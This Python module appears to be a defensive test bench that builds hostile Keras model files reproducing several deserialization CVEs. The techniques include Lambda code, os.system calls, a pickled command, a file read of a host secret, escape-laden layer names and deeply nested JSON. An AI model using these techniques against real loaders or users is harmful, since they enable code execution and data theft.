"""Keras files that carry code, name somebody else's, or have a layer read what lies beside them."""

import base64
import json
from pathlib import Path
from typing import Any

from tests.hostile.files.bench import CLASSES, Bench, Json, keras_object, sequential
from tests.hostile.files.pickled import pickled_command

_SCORES = keras_object("Dense", {"units": CLASSES, "name": "scores", "use_bias": False})


def _payload(bench: Bench) -> Any:
    """A function of one tensor that drops the marker. Its code stands in the file, so it may use no name of this module."""
    return eval(f"lambda x: (__import__('pathlib').Path({str(bench.marks.marker)!r}).touch(), x)[1]")  # noqa: S307


def _code(bench: Bench) -> Json:
    """A Python function as Keras 3 writes it."""
    from keras.src.utils.python_utils import func_dump

    code, defaults, closure = func_dump(_payload(bench))
    parts = {"code": code, "defaults": defaults, "closure": closure}
    return {"class_name": "__lambda__", "config": {**parts, "value": [code, defaults, closure]}}


def _lambda(bench: Bench, name: str = "twice", module: str = "keras.layers") -> Json:
    return keras_object("Lambda", {"name": name, "function": _code(bench), "arguments": {}}, module)


def lambda_layer(bench: Bench, at: Path) -> None:
    bench.layers(at, _lambda(bench), _SCORES)


def lambda_by_inner_module(bench: Bench, at: Path) -> None:
    bench.layers(at, _lambda(bench, module="keras.src.layers.core.lambda_layer"), _SCORES)


def lambda_in_a_wrapper(bench: Bench, at: Path) -> None:
    reshape = keras_object("Reshape", {"target_shape": [6, 1], "name": "split"})
    wrapper = keras_object("TimeDistributed", {"name": "each", "layer": _lambda(bench)})
    bench.layers(at, reshape, wrapper, keras_object("Flatten", {"name": "flat"}), _SCORES)


def lambda_as_activation(bench: Bench, at: Path) -> None:
    bench.layers(at, keras_object("Dense", {"units": CLASSES, "name": "scores", "use_bias": False, "activation": _code(bench)}))


def lambda_with_a_screen_name(bench: Bench, at: Path) -> None:
    """The name would clear a terminal, start a script, turn the line around, and fill gaps of a format."""
    bench.layers(at, _lambda(bench, "\x1b[2J\x07<script>\u202e\n\x00{x}%s"), _SCORES)


def marshalled_code_in_h5(bench: Bench, at: Path) -> None:
    """As Keras 2 writes it: `safe_mode` was ignored for `.h5` (CVE-2025-9905)."""
    from tf_keras.src.utils.generic_utils import func_dump

    code = list(func_dump(_payload(bench)))
    config = {"name": "twice", "trainable": True, "dtype": "float32", "arguments": {}, "output_shape": [6]}
    config |= {"function": code, "function_type": "lambda", "output_shape_type": "raw", "module": "__main__"}
    scores = {"units": CLASSES, "name": "scores", "dtype": "float32", "activation": "linear", "use_bias": True}
    bench.h5_config(at, lambda _: keras2_sequential(("Lambda", config), ("Dense", scores)))


def module_of_the_system(bench: Bench, at: Path) -> None:
    """A function of any module as a layer, called while the graph is built (CVE-2025-1550)."""
    node = {"args": [f"touch {bench.marks.marker}"], "kwargs": {}}
    bench.keras(at, lambda config: _with_calls(config, ("os", "system", node)))


def keras_own_download(bench: Bench, at: Path) -> None:
    """Keras's own `get_file` as a layer: a connection, and a file (CVE-2025-8747)."""
    node = {
        "args": ["got", f"http://127.0.0.1:{bench.marks.port}/got"],
        "kwargs": {"cache_dir": str(bench.marks.marker.parent)},
    }
    bench.keras(at, lambda config: _with_calls(config, ("keras.utils", "get_file", node)))


def keras_own_switch(bench: Bench, at: Path) -> None:
    """A layer that turns the safe mode off, then one whose argument is a model with code in it (CVE-2025-9906)."""
    inner = sequential(_lambda(bench), _SCORES)
    calls: tuple[tuple[str, str, Json], ...] = (
        ("keras.config", "enable_unsafe_deserialization", {"args": [], "kwargs": {}}),
        ("builtins", "relu", {"args": [inner], "kwargs": {}}),
    )
    bench.keras(at, lambda config: _with_calls(config, *calls))


def pickle_in_a_layer(bench: Bench, at: Path) -> None:
    """The wrapper of a PyTorch module unpickles it (CVE-2025-49655)."""
    content = base64.b64encode(pickled_command(f"touch {bench.marks.marker}")).decode()
    module = {"class_name": "__bytes__", "config": {"value": content}}
    bench.layers(at, keras_object("TorchModuleWrapper", {"name": "wrapped", "module": module}), _SCORES)


def saved_model_layer(bench: Bench, at: Path) -> None:
    """A layer that loads a SavedModel from a folder of the host; what lies there writes a file."""
    import tensorflow as tf

    folder = bench.folder / "beside"
    holder = tf.Module()
    path = str(bench.marks.marker)

    @tf.function(input_signature=[tf.TensorSpec((None, 6), tf.float32)], autograph=False)  # type: ignore[untyped-decorator]
    def serve(numbers: Any) -> Any:
        tf.io.write_file(path, "x")
        return numbers[:, :CLASSES]

    holder.serve = serve
    tf.saved_model.save(holder, str(folder), signatures={"serve": serve})
    config = {"name": "beside", "filepath": str(folder), "call_endpoint": "serve", "call_training_endpoint": None}
    bench.layers(at, keras_object("TFSMLayer", config))


def vocabulary_of_the_host(bench: Bench, at: Path) -> None:
    bench.layers(at, keras_object("StringLookup", {"name": "words", "vocabulary": str(bench.marks.secret)}), _SCORES)


def vocabulary_of_the_host_h5(bench: Bench, at: Path) -> None:
    config = {"name": "words", "trainable": True, "dtype": "string", "max_tokens": None, "vocabulary": str(bench.marks.secret)}
    bench.h5_config(at, lambda _: keras2_sequential(("StringLookup", config)))


def tensorflow_function_in_h5(bench: Bench, at: Path) -> None:
    """Keras 2 keeps any public function of TensorFlow as a layer: this one writes a file while the graph is built."""
    layer = {
        "class_name": "TFOpLambda",
        "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32", "function": "io.write_file"},
        "name": "tf.io.write_file",
        "inbound_nodes": [["_CONSTANT_VALUE", -1, str(bench.marks.marker), {"contents": "x"}]],
    }
    bench.h5_config(at, lambda _: keras2_functional(layer))


def class_that_is_no_text(bench: Bench, at: Path) -> None:
    bench.layers(at, keras_object("Dense", {"units": CLASSES}) | {"class_name": ["Dense"], "module": {"class_name": 1}})


def deep_json(bench: Bench, at: Path) -> None:
    parts = bench.keras_parts()
    config = json.loads(parts["config.json"])
    text = json.dumps(config)[:-1] + ', "more": ' + "[" * 100_000 + "]" * 100_000 + "}"
    bench.keras(at, lambda config: config, **{"config.json": text.encode()})


def deep_json_in_h5(bench: Bench, at: Path) -> None:
    """As deep as an attribute may be long: 64 KiB."""

    def spoil(file: Any) -> None:
        file.attrs["model_config"] = '{"config": ' + "[" * 30_000 + "]" * 30_000 + "}"

    bench.h5(at, spoil)


def keras2_sequential(*layers: tuple[str, Json]) -> Json:
    """A Sequential as Keras 2 writes it: (class name, config) after the input."""
    source = {"batch_input_shape": [None, 6], "dtype": "float32", "sparse": False, "ragged": False, "name": "numbers"}
    written = [{"class_name": name, "config": config} for name, config in (("InputLayer", source), *layers)]
    return {"class_name": "Sequential", "config": {"name": "model", "layers": written}}


def keras2_functional(layer: Json) -> Json:
    """A functional model as Keras 2 writes it, with one strange layer beside an honest one."""
    source = {"batch_input_shape": [None, 6], "dtype": "float32", "sparse": False, "ragged": False, "name": "numbers"}
    scores = {"units": CLASSES, "name": "scores", "dtype": "float32", "activation": "linear", "use_bias": False}
    layers = [
        {"class_name": "InputLayer", "config": source, "name": "numbers", "inbound_nodes": []},
        {"class_name": "Dense", "config": scores, "name": "scores", "inbound_nodes": [[["numbers", 0, 0, {}]]]},
        layer,
    ]
    ends = {"input_layers": [["numbers", 0, 0]], "output_layers": [["scores", 0, 0]]}
    return {"class_name": "Functional", "config": {"name": "model", "trainable": True, "layers": layers, **ends}}


def _with_calls(config: Json, *calls: tuple[str, str, Json]) -> Json:
    """A functional model with functions in place of layers: (module, name, node) each."""
    for number, (module, name, node) in enumerate(calls):
        strange = {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
        config["config"]["layers"].append({**strange, "name": f"call{number}", "inbound_nodes": [node]})
    return config
